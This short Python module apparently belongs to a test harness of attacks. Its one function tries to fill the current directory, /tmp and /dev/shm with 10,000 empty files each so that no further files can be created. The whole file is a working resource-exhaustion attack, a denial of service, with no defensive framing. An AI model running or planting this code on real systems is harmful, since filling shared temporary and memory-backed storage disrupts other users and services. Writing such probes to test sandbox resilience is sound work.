"""Makes 30,000 empty files, so that nobody can make any more."""

import os
from typing import Any


def attack(_world: Any) -> list[str]:
    """In as many folders as can be written."""
    for folder in (os.getcwd(), "/tmp", "/dev/shm"):
        try:
            for number in range(10_000):
                os.close(os.open(os.path.join(folder, f"empty{number}"), os.O_CREAT | os.O_WRONLY))
        except OSError:
            continue
    return []
